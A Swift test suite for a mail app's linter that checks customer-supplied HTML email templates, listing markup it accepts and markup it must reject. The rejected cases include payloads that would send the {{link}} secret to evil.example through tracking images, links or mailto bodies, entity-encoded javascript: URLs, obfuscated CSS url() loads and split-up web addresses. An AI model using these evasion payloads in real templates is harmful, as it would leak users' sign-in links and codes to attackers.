import Engine
import Reconciliation
import Testing

@testable import Mail

@Suite("The HTML of a book's own template")
struct BookHTMLTests {
  static let text = "Subject: Hi\n\nUse {{link}} and {{checkCode}}\n"

  private func composer(html: String, text: String = Self.text) throws -> any MailComposer {
    try TemplateComposers().composer(
      accountFolder: "",
      templates: ["templates/invitation.en.txt": text, "templates/invitation.en.html": html])
  }

  private func problems(html: String, text: String = Self.text) throws -> [String] {
    do throws(MailTemplateError) {
      _ = try TemplateComposers().composer(
        accountFolder: "",
        templates: ["templates/invitation.en.txt": text, "templates/invitation.en.html": html])
      return []
    } catch {
      return error.problems.map { "\($0.line):\($0.column) \($0.message)" }
    }
  }

  static let taken: [(String, String)] = [
    ("words and a link", "<p>Hello {{name}}: <a href=\"{{link}}\">go</a></p>"),
    ("the link as words", "<p>Go to {{link}}.</p>"),
    ("the site, and a page below it", "<a href='{{site}}/help'>help</a> at {{site}}/help"),
    (
      "a mail or a call",
      "<a href=\"mailto:it@acme.example\">x</a> <a href=\"tel:+4420794600\">call</a>"
    ),
    (
      "whom to ask, from the settings",
      "{{#contact}}<a href=\"mailto:{{contact}}\">ask</a>{{/contact}}"
    ),
    (
      "a table with colours",
      "<table width=100% bgcolor=#ffffff><tr><td style=\"color:rgb(1,2,3)\">x</td></tr></table>"
    ),
    (
      "a sheet of styles for small screens",
      "<style>@media (max-width:600px) { p { color: #000 } }</style>"
    ),
    (
      "a whole document",
      "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"></head><body>x<br/></body></html>"
    ),
    ("characters by name or number", "A &amp; B &#8211; &#xe4; &auml;"),
    ("a comment of mustache", "{{! <img src=x> }}x"),
  ]

  @Test("may hold", arguments: taken.indices)
  func isTaken(index: Int) throws {
    let (sentence, html) = Self.taken[index]
    let found = try problems(html: "\(html) {{link}} {{checkCode}}")
    #expect(found == [], "\(sentence)")
  }

  static let refused: [(String, String, [String])] = [
    (
      "a picture, which tells when the mail was read, and takes the link along",
      "<p>\n<img src=\"https://evil.example/t?l={{link}}\">", ["2:1 <img> is not taken in a mail."]
    ),
    (
      "a link to elsewhere", "<a href=\"https://evil.example/p\">{{link}}</a>",
      ["1:4 The link leads to “https://evil.example/p”."]
    ),
    (
      "a link that takes the link along", "<a href=\"https://evil.example/?{{link}}\">x</a>",
      ["1:4 The link leads to “https://evil.example/?{{link}}”."]
    ),
    (
      "a mail that does", "<a href=\"mailto:x@evil.example?body={{link}}\">x</a>",
      ["1:4 The link leads to “mailto:x@evil.example?body={{link}}”."]
    ),
    (
      "a site that is longer than it seems", "<a href=\"{{site}}.evil.example\">x</a>",
      ["1:4 The link leads to “{{site}}.evil.example”."]
    ),
    (
      "a script in a link, spelled by numbers", "<a href=\"&#106;avascript:x\">x</a>",
      ["1:4 The link leads to “&#106;avascript:x”."]
    ),
    ("a script", "<script>x</script>", ["1:1 <script> is not taken in a mail."]),
    ("a form", "<form action=\"https://evil.example\">", ["1:1 <form> is not taken in a mail."]),
    ("a frame, whatever its case", "<IFRAME SRC=x>", ["1:1 <iframe> is not taken in a mail."]),
    (
      "a sheet of styles from elsewhere", "<link rel=\"stylesheet\" href=\"x\">",
      ["1:1 <link> is not taken in a mail."]
    ),
    (
      "a base for every link", "<base href=\"https://evil.example\">",
      ["1:1 <base> is not taken in a mail."]
    ),
    (
      "something that happens", "<p onclick=\"x\">",
      ["1:4 The attribute onclick is not taken in a mail."]
    ),
    (
      "a background", "<td background=\"x\">",
      ["1:5 The attribute background is not taken in a mail."]
    ),
    (
      "a style that loads", "<p style=\"background:URL(x)\">",
      ["1:4 The style has “url(”, which is not taken in a mail."]
    ),
    (
      "one that hides that it loads", "<p style=\"background:u\\72l(x)\">",
      ["1:4 The style has “l(”, which is not taken in a mail."]
    ),
    (
      "the same by a character reference", "<p style=\"background:url&#40;x)\">",
      ["1:4 The style has “url(”, which is not taken in a mail."]
    ),
    (
      "a sheet that loads another", "<style>\n@import 'x';</style>",
      ["1:8 The style has “@import”, which is not taken in a mail."]
    ),
    (
      "a style that adds words", "<style>p:before{content:'x'}</style>",
      ["1:8 The style has “content:”, which is not taken in a mail."]
    ),
    (
      "a page that leaves by itself", "<meta http-equiv=\"refresh\" content=\"0;x\">",
      ["1:7 http-equiv=“refresh” is not taken in a mail."]
    ),
    (
      "a comment that some mail programs carry out", "<!--[if mso]><a href=\"x\"><![endif]-->",
      ["1:1 A comment of HTML stands here."]
    ),
    (
      "a comment that ends sooner than it seems", "<!--><img src=x>-->",
      ["1:1 A comment of HTML stands here.", "1:6 <img> is not taken in a mail."]
    ),
    ("a name that is filled in", "<{{name}}>", ["1:1 A bare “<” stands in the text."]),
    (
      "an attribute that is filled in", "<p title=\"{{name}}\">",
      ["1:4 The attribute title is filled in."]
    ),
    (
      "a section across a tag", "<a {{#name}}href=\"{{link}}\"{{/name}}>",
      ["1:1 This tag cannot be read."]
    ),
    ("a quote that is not closed", "<a href=\"{{link}}>x", ["1:1 This tag cannot be read."]),
    (
      "a web address in the words", "Go to https://evil.example/ or www.evil.example",
      ["1:7 The words hold a web address.", "1:32 The words hold a web address."]
    ),
    (
      "one in pieces", "https:{{! x }}//evil.example h&#116;tps&#58;//evil.example",
      ["1:1 The words hold a web address.", "1:30 The words hold a web address."]
    ),
    (
      "one by names that few know", "https&colon;&sol;&sol;evil.example",
      ["1:6 &colon; is not read.", "1:13 &sol; is not read.", "1:18 &sol; is not read."]
    ),
    (
      "the link in a longer word", "x/{{link}} {{link}}/x {{site}}.evil.example",
      [
        "1:3 {{link}} is part of a longer word.", "1:12 {{link}} is part of a longer word.",
        "1:23 {{site}} is part of a longer word.",
      ]
    ),
  ]

  @Test("may not hold", arguments: refused.indices)
  func isRefused(index: Int) throws {
    let (sentence, html, expected) = Self.refused[index]
    let found = try problems(html: "{{link}} {{checkCode}}\n" + html)
    let shifted = expected.map { line in
      let number = Int(line.prefix { $0 != ":" }) ?? 0
      return "\(number + 1)" + line.drop { $0 != ":" }
    }
    #expect(found == shifted, "\(sentence)")
  }

  @Test("has its addresses in the words of the text part, too")
  func addressesInText() throws {
    #expect(
      try problems(
        html: "{{link}} {{checkCode}}",
        text:
          "Subject: See www.x.example\n\n{{checkCode}} {{link}}\n  http://x.example/a?{{link}}\n")
        == [
          "1:14 The words hold a web address.", "4:3 The words hold a web address.",
          "4:22 {{link}} is part of a longer word.",
        ])
  }

  @Test("which comes together only when it is filled in, is not sent: that is the account's matter")
  func filledIn() throws {
    let composer = try composer(
      html: "{{link}} {{checkCode}} htt{{^name}} {{/name}}ps:{{^name}} {{/name}}//evil.example")
    let error = #expect(throws: MailComposeError.self) { try composer.compose(.sample()) }
    #expect(error?.field == "template")
    #expect(error?.concernsAccount == true)
    #expect(
      error?.message
        == "The mail leads to “https://evil.example”: take the address out of the template en.")
    var unnamed = MailBrief.sample(name: nil)
    unnamed.contact = "https://help.acme.example"
    #expect(throws: Never.self, "a value of the settings is no template's") {
      try composer.compose(unnamed)
    }
  }

  @Test("is read by a reviewer line by line, with where each link leads")
  func reading() {
    let reading = HTMLReading(
      """
      <html><head><title>T</title><style>p { color: red }</style></head><body>
      <h1>Hello  Ann &amp;
      Bob</h1><p>Please <a href="https://x.example/p/1"><b>link</b></a> it.<br>Or:
      <a href="https://x.example/p/1">https://x.example/p/1</a></p>
      <ul><li>one</li><li>two</li></ul><table><tr><td>a</td><td>b</td></tr></table></body></html>
      """)
    #expect(
      reading.lines == [
        "Hello Ann & Bob", "Please link <https://x.example/p/1> it.", "Or: https://x.example/p/1",
        "- one", "- two", "a b",
      ])
  }

  @Test("is held to what the program's own HTML keeps, in every kind and language")
  func shipped() {
    for words in MailWords.all {
      for kind in MailOrder.Kind.allCases {
        let html = htmlLayout(words.blocks(kind), locale: words.locale, title: "x")
        let template = TemplateText(path: "", firstLine: 1, text: html)
        #expect(HTMLLint(template).problems == [])
        #expect(AddressLint(html: template).problems == [])
      }
    }
  }
}
